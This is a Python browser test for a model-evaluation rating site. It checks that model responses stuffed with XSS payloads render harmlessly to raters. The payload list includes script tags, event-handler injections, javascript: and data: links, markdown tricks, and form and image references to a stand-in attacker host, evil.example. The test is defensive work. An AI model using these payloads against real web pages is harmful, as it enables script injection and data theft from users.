"""Model output full of attacks, shown to a rater in a real browser: nothing runs, nothing is injected,
nothing is fetched from another host, and the page's CSP never even has to refuse anything."""
from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from evalsite.studies.models import Prompt, Response, Study, System
from evalsite.studies.services import comparisons_build
from tests.browser.test_rater_flow import consent_and_start
from tests.raters.test_rater_pages import prolific_url

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Every payload tries to create an element with id "pwned", set window.pwned, open a dialog or reach
# evil.example. Raw HTML, Markdown constructs that turn into HTML, and attribute break-outs.
PWN = "document.body.appendChild(Object.assign(document.createElement('div'),{id:'pwned'}));window.pwned=1;alert(1)"
PAYLOADS = [
    f"<script>{PWN}</script>",
    f'<img src="http://evil.example/x.png" onerror="{PWN}">',
    f"<svg onload=\"{PWN}\"><circle r=10 /></svg>",
    f"<iframe src=\"javascript:{PWN}\"></iframe><iframe src=\"http://evil.example/frame\"></iframe>",
    "<style>body { background: url(http://evil.example/bg.png) }</style><div style=\"background:url(http://evil.example/s.png)\">styled</div>",
    "<form action=\"http://evil.example/steal\" method=\"post\"><input name=\"x\"><button>Send</button></form>",
    f"<a href=\"javascript:{PWN}\">click me</a>",
    f"[markdown link](javascript:{PWN.replace('(', '%28').replace(')', '%29')})",
    "[entity link](&#106;avascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![tracking pixel](http://evil.example/pixel.png)",
    "![ref image][img]\n\n[img]: http://evil.example/ref.png",
    "<http://evil.example/autolink>",
    '[quote breaker](http://ok.example/"onmouseover="alert(1))',
    "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\"><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\"><object data=\"http://evil.example/o\"></object><embed src=\"http://evil.example/e\">",
    f"<details open ontoggle=\"{PWN}\"><summary>s</summary></details><video><source onerror=\"{PWN}\"></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{PWN}\">",
    f"```html\n<script>{PWN}</script>\n```",
    f"<div hx-get=\"http://evil.example/hx\" hx-trigger=\"load\">htmx attribute</div><div hx-on:click=\"{PWN}\">hx-on</div>",
]


def _study_full_of_payloads() -> Study:
    study = Study.objects.create(slug="xss", title="XSS", instructions="Pick one.\n\n" + PAYLOADS[1],
                                 judgments_per_comparison=1, min_seconds_per_judgment=0)
    reference = System.objects.create(study=study, name="ref", role="reference")
    candidate = System.objects.create(study=study, name="cand", role="candidate")
    half = len(PAYLOADS) // 2
    for i, chunk in enumerate((PAYLOADS[:half], PAYLOADS[half:])):
        prompt = Prompt.objects.create(study=study, external_id=f"p{i}", position=i,
                                       text="Say something.\n\n" + chunk[0])
        for system, texts in ((reference, chunk), (candidate, list(reversed(chunk)))):
            Response.objects.create(prompt=prompt, system=system, text="\n\n".join(texts))
    # A multi-turn prompt puts payloads in the conversation as well.
    prompt = Prompt.objects.create(study=study, external_id="p-chat", position=9, messages=[
        {"role": "user", "content": PAYLOADS[0]}, {"role": "assistant", "content": PAYLOADS[2]},
        {"role": "user", "content": PAYLOADS[10]}])
    for system in (reference, candidate):
        Response.objects.create(prompt=prompt, system=system, text="\n\n".join(PAYLOADS[3:8]))
    comparisons_build(study=study)
    Study.objects.filter(pk=study.pk).update(status=Study.Status.LIVE)
    study.refresh_from_db()
    return study


def test_responses_full_of_xss_payloads_run_nothing_and_fetch_nothing_foreign(live_server, page):
    study = _study_full_of_payloads()
    dialogs, foreign, problems = [], [], []
    own = urlsplit(live_server.url).netloc
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: foreign.append(request.url)
            if urlsplit(request.url).netloc != own else None)
    page.on("console", lambda msg: problems.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: problems.append(str(exc)))
    # Injected through the DevTools protocol, so the page's CSP does not apply to this listener itself.
    page.add_init_script("""
        window.__violations = [];
        document.addEventListener('securitypolicyviolation',
            e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
    """)

    page.goto(live_server.url + prolific_url(study, "xss-rater"))
    expect(page.locator(".instructions")).to_contain_text("onerror")  # the instructions' payload, as text
    assert page.locator(".instructions img").count() == 0 and page.evaluate("window.__violations") == []
    consent_and_start(page)
    for number in range(1, 4):
        expect(page.locator(".progress-text")).to_have_text(f"Comparison {number} of 3")
        expect(page.locator(".responses")).to_contain_text("evil.example")  # the payloads are shown, as text
        # Hover every link (mouseover handlers), and check that each one points somewhere harmless.
        for link in page.locator(".prompt a, .pane a").all():
            link.hover()
            assert urlsplit(link.get_attribute("href") or "").scheme in {"http", "https", "mailto"}
        page.mouse.move(5, 5)
        assert page.locator("#pwned").count() == 0
        assert page.evaluate("window.pwned") is None
        assert page.locator(".pane script, .pane img, .pane iframe, .pane svg, .pane style, .pane form, "
                            ".pane object, .pane embed, .pane [style], .pane [hx-get], .prompt img").count() == 0
        page.keyboard.press("3")
        page.keyboard.press("Enter")
        page.wait_for_timeout(200)  # let anything that might fire on the swapped-in content fire

    expect(page.locator("#completion-code")).to_have_text(study.completion_code)
    assert dialogs == []
    assert foreign == []
    assert page.evaluate("window.__violations") == []
    assert problems == []
